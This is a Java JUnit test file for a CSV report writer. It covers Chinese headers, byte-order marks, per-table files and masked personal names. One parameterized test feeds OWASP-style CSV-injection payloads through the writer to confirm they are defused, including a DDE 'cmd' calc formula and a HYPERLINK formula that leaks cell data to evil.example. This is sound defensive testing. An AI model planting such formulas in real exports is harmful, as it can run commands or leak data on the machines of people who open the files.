package dev.cordon.adapters.csv;

import static org.assertj.core.api.Assertions.assertThat;

import dev.cordon.Cordon;
import dev.cordon.core.finding.Finding;
import dev.cordon.core.finding.FindingId;
import dev.cordon.core.finding.Severity;
import dev.cordon.core.finding.Subject;
import dev.cordon.core.finding.SubjectKind;
import dev.cordon.core.org.UnitId;
import dev.cordon.core.report.Column;
import dev.cordon.core.report.FindingsReport;
import dev.cordon.core.report.Names;
import dev.cordon.core.report.Report;
import dev.cordon.core.report.ReportTable;
import dev.cordon.core.report.Text;
import dev.cordon.spi.report.ReportOptions;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.LocalDate;
import java.util.Arrays;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class CsvReportWriterTest {
  private static final Column UNIT = Column.text("unit", "Unit", "单位");
  private static final Column FEVERS = Column.number("fevers", "Fevers", "发热人数");

  private static Report report(ReportTable... tables) {
    return new Report() {
      @Override
      public String kind() {
        return "daily";
      }

      @Override
      public Text title() {
        return Text.of("Daily report", "日报");
      }

      @Override
      public List<ReportTable> tables() {
        return List.of(tables);
      }
    };
  }

  private static ReportTable table(String name, List<Object> row) {
    return new ReportTable(name, Text.of(name, name), List.of(UNIT, FEVERS), List.of(row));
  }

  private static String write(Report r, ReportOptions o) throws IOException {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    new CsvReportWriter().write(r, out, o);
    return out.toString(StandardCharsets.UTF_8);
  }

  /** The payloads of OWASP's CSV-injection page and the usual variants. */
  @ParameterizedTest
  @ValueSource(strings = {"=1+2", "=cmd|' /C calc'!A0", "+1+2", "-2+3", "@SUM(1+1)",
      "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")", "\t=1+2", "\r=1+2", "\n=1+2",
      "-1.5", "=-1.5"})
  void formulasInTextCellsAreDefused(String payload) throws IOException {
    String csv = write(report(table("units", Arrays.asList(payload, 1))), ReportOptions.defaults());
    String cell = csv.lines().skip(1).findFirst().orElseThrow();
    assertThat(cell).startsWith("\"'");
  }

  @Test
  void numbersAreLeftAlone() throws IOException {
    String csv = write(report(table("units", Arrays.asList("东河供热分公司", new BigDecimal("-1.5")))),
        ReportOptions.defaults());
    assertThat(csv).isEqualTo("Unit,Fevers\r\n东河供热分公司,-1.5\r\n");
    assertThat(write(report(table("units", Arrays.asList("a", "-3"))), ReportOptions.defaults()))
        .endsWith("a,-3\r\n");
  }

  @Test
  void severalTablesAreSectionsChineseHeadersAndBom() throws IOException {
    String csv = write(report(table("units", Arrays.asList("包头", 2)),
        table("sites", Arrays.asList(null, LocalDate.of(2021, 10, 25)))),
        ReportOptions.defaults().withLocale(Locale.SIMPLIFIED_CHINESE).withByteOrderMark(true));
    // FastCSV quotes a one-cell line starting with '#', which spreadsheets show the same
    assertThat(csv).isEqualTo("\uFEFF\"# table: units\"\r\n单位,发热人数\r\n包头,2\r\n\r\n"
        + "\"# table: sites\"\r\n单位,发热人数\r\n,2021-10-25\r\n");
  }

  @Test
  void aTranslatedCellIsWrittenInTheReportsLanguageAndStillDefused() throws IOException {
    ReportTable t = new ReportTable("units", Text.of("Units", "单位"), List.of(UNIT, FEVERS),
        List.of(Arrays.asList(Text.of("Total", "合计"), 1), Arrays.asList(Text.of("=1+2", "=1+2"), 2)));
    assertThat(write(report(t), ReportOptions.defaults())).isEqualTo("Unit,Fevers\r\nTotal,1\r\n\"'=1+2\",2\r\n");
    assertThat(write(report(t), ReportOptions.defaults().withLocale(Locale.SIMPLIFIED_CHINESE)))
        .startsWith("单位,发热人数\r\n合计,1\r\n");
  }

  @Test
  void oneFilePerTableWithHeadersInTheReportsLanguageNamesBesideIdsAndMaskedPeople(@TempDir Path dir)
      throws IOException {
    Finding late = Finding.builder().id(FindingId.of("F-2")).ruleId("TRAVEL-LATE").severity(Severity.MEDIUM)
        .subject(Subject.of(SubjectKind.PERSON, "wang")).unit(UnitId.of("b1")).date(LocalDate.of(2021, 10, 11))
        .messageEn("Declared late — employee wang").messageZh("迟报 — 员工 wang").build();
    Names names = new Names(Map.of("g", "集团", "b1", "东河分公司"), Map.of(), Map.of(),
        Map.of("wang", Names.maskName("王小明")), Map.of());
    FindingsReport r = new FindingsReport(LocalDate.of(2021, 10, 1), LocalDate.of(2021, 11, 1), "all",
        List.of(late), names);
    ReportOptions zh = ReportOptions.defaults().withLocale(Locale.SIMPLIFIED_CHINESE);
    List<Path> files = new CsvReportWriter().writeFiles(r, dir, "findings", zh);
    assertThat(files).extracting(p -> p.getFileName().toString())
        .containsExactly("findings-by_unit.csv", "findings-findings.csv");
    List<String> sums = Files.readAllLines(files.get(0), StandardCharsets.UTF_8);
    assertThat(sums).containsExactly("单位编号,单位,重大,严重,一般,轻微,提示,待甄别,已确认,已排除,已整改,合计",
        "b1,东河分公司,0,0,1,0,0,1,0,0,0,1", ",合计,0,0,1,0,0,1,0,0,0,1");
    String detail = Files.readString(files.get(1), StandardCharsets.UTF_8);
    assertThat(detail).startsWith("单位编号,单位,问题编号,日期,").contains(",wang,王*明,迟报 — 员工 王*明（wang）,")
        .contains(",MEDIUM,一般,").doesNotContain("王小明");
    List<Path> en = new CsvReportWriter().writeFiles(r, dir, "en", ReportOptions.defaults().withByteOrderMark(true));
    assertThat(Files.readString(en.get(0), StandardCharsets.UTF_8))
        .startsWith("\uFEFFUnit id,Unit,Critical,High,Medium,Low,Info,Open,Confirmed,Dismissed,Rectified,Total\r\n");
    assertThat(new CsvReportWriter().writeFiles(report(table("units", Arrays.asList("a", 1))), dir, "one", zh))
        .containsExactly(dir.resolve("one.csv"));
  }

  @Test
  void discoveredByFormat() {
    try (Cordon cordon = Cordon.open("memory:")) {
      assertThat(cordon.reportWriter("csv")).isInstanceOf(CsvReportWriter.class);
      assertThat(cordon.reportFormats()).contains("csv", "json");
    }
  }
}
